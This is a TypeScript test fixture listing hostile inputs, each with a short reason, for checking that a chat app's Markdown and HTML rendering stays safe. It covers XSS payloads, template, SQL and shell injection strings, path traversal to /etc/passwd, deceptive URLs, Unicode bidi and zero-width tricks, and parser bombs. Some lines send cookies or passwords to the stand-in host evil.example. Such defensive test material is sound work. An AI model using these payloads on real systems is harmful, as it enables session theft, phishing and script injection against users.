/**
 * Hostile texts (S6), each with why it is here. A script that runs calls canary(), which the stories hear. What one sees of a text is the
 * text; shown says what of it where the marks of our little Markdown fall away.
 */
export interface Hostile {
  readonly text: string;
  readonly why: string;
  readonly shown?: string;
}

const many = (text: string, n: number): string => text.repeat(n);

const markup: Hostile[] = [
  { text: "<script>canary()</script>", why: "the classic" },
  { text: "<ScRiPt>canary()</sCrIpT>", why: "filters that know one case" },
  { text: "<script\n>canary()</script\t>", why: "filters that know no line breaks" },
  { text: "<scr<script>ipt>canary()</scr</script>ipt>", why: "filters that remove once" },
  { text: "<script src=https://evil.example/x.js></script>", why: "a script from elsewhere" },
  { text: "<script src=/v1/me></script>", why: "an answer of the API as a script: the policy lets the origin in" },
  { text: "<script src=data:text/javascript,canary()></script>", why: "a script in a data: URL" },
  { text: "<img src=x onerror=canary()>", why: "innerHTML runs no script elements, but it runs this" },
  { text: "<img src=x onerror=canary()//", why: "a tag that never ends" },
  { text: "<img src='https://evil.example/pixel.gif'>", why: "a request that tells that one has read" },
  { text: "<svg onload=canary()>", why: "runs without a request" },
  { text: "<svg><script>canary()</script></svg>", why: "the other namespace" },
  { text: "<svg><animate onbegin=canary() attributeName=x dur=1s>", why: "an event nobody lists" },
  { text: "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><a href=javascript:canary()>'/></svg>", why: "a link within an image" },
  { text: "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=canary()&gt;'>", why: "mutation: harmless until it is parsed again" },
  { text: "<noscript><p title='</noscript><img src=x onerror=canary()>'>", why: "parsed in another way with scripting" },
  { text: "<template><img src=x onerror=canary()></template>", why: "a fragment that is cloned later" },
  { text: "<iframe srcdoc='<script>parent.canary()</script>'></iframe>", why: "a document of the same origin" },
  { text: "<iframe src=javascript:parent.canary()>", why: "a frame that is a script" },
  { text: "<object data=javascript:canary()>", why: "the forgotten element" },
  { text: "<embed src=https://evil.example/>", why: "the other forgotten element" },
  { text: "<base href=https://evil.example/>", why: "moves every relative address" },
  { text: "<meta http-equiv=refresh content='0;url=javascript:canary()'>", why: "navigates without a script" },
  { text: "<meta http-equiv=Content-Security-Policy content=\"script-src *\">", why: "a policy that loosens nothing, or so one hopes" },
  { text: "<link rel=stylesheet href=https://evil.example/x.css>", why: "style from elsewhere reads what is typed" },
  { text: "<link rel=prefetch href=https://evil.example/>", why: "a request outside every directive that people remember" },
  { text: "<style>*{display:none}@import 'https://evil.example/x.css';</style>", why: "hides everything, and asks for more" },
  { text: "<div style=\"position:fixed;inset:0;background:red\">", why: "covers the page with a form of its own" },
  { text: "<form action=https://evil.example/><input name=password><button>Sign in</button></form>", why: "asks for the password in the app's name" },
  { text: "<input autofocus onfocus=canary()>", why: "runs without a click" },
  { text: "<details open ontoggle=canary()>", why: "runs without a click in every browser" },
  { text: "<video><source onerror=canary()></video>", why: "an error of a child" },
  { text: "<a href=javascript:canary() id=location name=location>click</a>", why: "clobbers a global by its name" },
  { text: "<form id=document><input name=cookie>", why: "clobbers document" },
  { text: "\"><script>canary()</script>", why: "leaves an attribute in double quotes" },
  { text: "'><svg/onload=canary()>", why: "leaves one in single quotes" },
  { text: "` onmouseover=canary() x=`", why: "leaves one in back quotes, of browsers long gone", shown: "onmouseover=canary() x=" },
  { text: "--><script>canary()</script><!--", why: "leaves a comment" },
  { text: "]]><script>canary()</script>", why: "leaves CDATA" },
  { text: "</textarea><script>canary()</script>", why: "leaves a text area: the composer's draft" },
  { text: "</title><script>canary()</script>", why: "leaves the document's title" },
  { text: "</script><script>canary()</script>", why: "leaves a script that holds data" },
  { text: "&lt;script&gt;canary()&lt;/script&gt;", why: "decoded twice it is markup" },
  { text: "&#60;img src=x onerror=canary()&#62;", why: "the same by number" },
  { text: "\\u003cscript\\u003ecanary()\\u003c/script\\u003e", why: "the same by escape" },
  { text: "＜script＞canary()＜/script＞", why: "full width: markup after a careless normalisation" },
  { text: "+ADw-script+AD4-canary()+ADw-/script+AD4-", why: "markup in UTF-7" },
  { text: "<img src=x onerror=location='https://evil.example/?'+document.cookie>", why: "carries the session away, had it run" },
];

const code: Hostile[] = [
  { text: "{{constructor.constructor('canary()')()}}", why: "a template of some frameworks" },
  { text: "${canary()}", why: "a template of the language" },
  { text: "{@html '<img src=x onerror=canary()>'}", why: "a template of ours" },
  { text: "{canary()}", why: "an expression of ours" },
  { text: "<%= canary() %>", why: "a template of servers" },
  { text: "#{canary()} *{canary()} @{canary()}", why: "more of them" },
  { text: "{count, plural, one {# <b>x</b>} other {#}}", why: "a message of the catalogue" },
  { text: "{title} {name} {0}", why: "placeholders of the catalogue" },
  { text: "'; DROP TABLE conversations; --", why: "a query of another age" },
  { text: "$(canary) `canary` ; canary | canary", why: "a shell's", shown: "$(canary) canary ; canary | canary" },
  { text: "%s%s%s%n%x", why: "a format of C" },
  { text: "=HYPERLINK(\"https://evil.example\")", why: "a formula, once exported" },
  { text: "__proto__", why: "an object used as a map", shown: "proto" },
  { text: "constructor", why: "the same" },
  { text: "hasOwnProperty", why: "the same, called later" },
  { text: "toString", why: "the same, called by everything" },
  { text: "{\"__proto__\":{\"polluted\":true}}", why: "a merge that goes too deep", shown: "{\"proto\":{\"polluted\":true}}" },
  { text: "null", why: "a word that is a value" },
  { text: "undefined", why: "another" },
  { text: "NaN", why: "another" },
  { text: "0", why: "a text that is false" },
  { text: "../../../../etc/passwd", why: "a path" },
  { text: "C:\\con\\con", why: "a path on the other system" },
  { text: "data-key=\"h-0\" role=\"alert\"", why: "attributes of the app" },
];

const links: Hostile[] = [
  { text: "javascript:canary()", why: "a scheme that runs" },
  { text: "JaVaScRiPt:canary()", why: "in any case" },
  { text: "java\tscript:canary()", why: "browsers drop the tab" },
  { text: "\u0001javascript:canary()", why: "browsers drop leading control characters" },
  { text: "javascript://example.org/%0acanary()", why: "looks like an address" },
  { text: "javascript&colon;canary()", why: "the colon as an entity" },
  { text: "data:text/html,<script>canary()</script>", why: "a document in an address" },
  { text: "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==", why: "the same, unreadable" },
  { text: "vbscript:canary()", why: "the other language" },
  { text: "blob:https://example.org/1234", why: "an object of the page" },
  { text: "filesystem:https://example.org/x", why: "an old scheme" },
  { text: "file:///etc/passwd", why: "the reader's own disk" },
  { text: "[click](javascript:canary())", why: "a link of Markdown" },
  { text: "[click](<javascript:canary()>)", why: "in angles" },
  { text: "[click]: javascript:canary() 'x'\n[click]", why: "by reference" },
  { text: "![image](https://evil.example/pixel.gif)", why: "an image of Markdown tells that one has read" },
  { text: "![x](x\"onerror=\"canary())", why: "leaves the image's attribute" },
  { text: "<javascript:canary()>", why: "an autolink of Markdown" },
  { text: "[https://bank.example](https://evil.example)", why: "shows one address and goes to another" },
  { text: "https://example.org/\"onmouseover=\"canary()", why: "leaves the link's attribute" },
  { text: "https://example.org/'><img src=x onerror=canary()>", why: "leaves the link's element" },
  { text: "https://evil.example\\@example.org/", why: "browsers and people disagree about the host" },
  { text: "https://example.org@evil.example/", why: "a host that is a user" },
  { text: "https://еxample.org/", why: "a letter of another alphabet" },
  { text: "mailto:ada@example.org?body=<script>canary()</script>", why: "a letter with a script" },
  { text: "//evil.example/x", why: "an address without a scheme" },
  { text: "https://", why: "an address without a host" },
  { text: "https://[::1]:99999/", why: "an address that does not parse" },
];

const shapes: Hostile[] = [
  { text: "\u202Egnp.exe", why: "the rest of the line runs backwards" },
  { text: "\u2066\u202Eover\u2069ride\u2067", why: "isolates that do not match" },
  { text: many("\u202B", 200) + "deep", why: "more levels than the algorithm has" },
  { text: "a\u200B\u200C\u200D\u2060\uFEFFb", why: "characters that take no room" },
  { text: "\u200B\u200B\u200B", why: "a message that seems empty" },
  { text: "Z" + many("\u0335\u0336\u0337\u0338\u0310\u0352", 80), why: "marks above marks above marks" },
  { text: many("W", 1000), why: "a word wider than every window" },
  { text: many("﷽", 300), why: "the widest character there is" },
  { text: many("👩‍👩‍👧‍👦", 100), why: "a hundred families, seven code points each" },
  { text: many("\n", 498) + "x" + many("\n", 498), why: "a page of nothing", shown: "x" },
  { text: many("\t", 900) + "x", why: "the same sideways", shown: "x" },
  { text: "\u0007\u0008\u001B[2J\u001B]0;title\u0007", why: "what terminals obey" },
  { text: "a\u2028b\u2029c\u0085d", why: "line breaks that are none in JSON and were some in scripts" },
  { text: "�\uFFFE\uFFFF\uE000", why: "characters that are none" },
  { text: many("᠎", 500) + "y", why: "separators of Mongolian" },
  { text: "𒐫𒈙⸻꧅", why: "characters wider than they say" },
];

const bombs: Hostile[] = [
  { text: many("*", 999), why: "emphasis without end" },
  { text: many("**a", 333), why: "emphasis that opens and opens" },
  { text: many("_a_", 333), why: "and may close anywhere" },
  { text: many("[", 999), why: "links that open and open" },
  { text: many("[a](", 249), why: "nested ones" },
  { text: many("![", 499), why: "nested images" },
  { text: many("`", 999), why: "fences of every length" },
  { text: many("`a", 499), why: "code that never closes" },
  { text: many("> ", 499) + "x", why: "quotes in quotes" },
  { text: many("- ", 499) + "x", why: "lists in lists" },
  { text: many("<", 999), why: "tags that open and open" },
  { text: many("<!--", 249), why: "comments that open and open" },
  { text: many("&", 999), why: "entities that are none" },
  { text: many("https://", 124), why: "addresses in addresses" },
  { text: many("a@", 499), why: "addresses of mail in addresses of mail" },
  { text: many("\\", 999), why: "escapes of escapes" },
  { text: "|" + many("a|", 120) + "\n|" + many("-|", 120), why: "a table" },
  { text: many("#", 999), why: "a heading of a level there is not" },
  { text: "[x]: <" + many("\\", 900), why: "a reference that never ends" },
];

/** What is not looked for word by word: marks fall away as the parser sees fit; it must only do no harm. */
export const harmless = new Set([...bombs, ...shapes.filter((h) => /[\u200B-\u200D\u2028\u2029\uFEFF\u180E]/.test(h.text))].map((h) => h.text));

/** For messages: all of them. */
export const hostile: readonly Hostile[] = [...markup, ...code, ...links, ...shapes, ...bombs];

/** For names and titles, which are shorter and which the server refuses when they deceive. */
export const hostileNames: readonly Hostile[] = [
  ...[...markup, ...code, ...links].filter((h) => [...h.text].length <= 60 && !/[\n\t\u0001]/.test(h.text)),
  { text: "Z" + many("\u0335\u0336\u0337", 20), why: "marks over the neighbours" },
  { text: many("W", 64), why: "a name wider than the list" },
  { text: many("﷽", 20), why: "a name wider than the window" },
  { text: "👩‍👩‍👧‍👦", why: "a name without a letter" },
  { text: "3 unread", why: "the app's own words" },
  { text: "Ada\u200B", why: "looks like somebody else" },
];
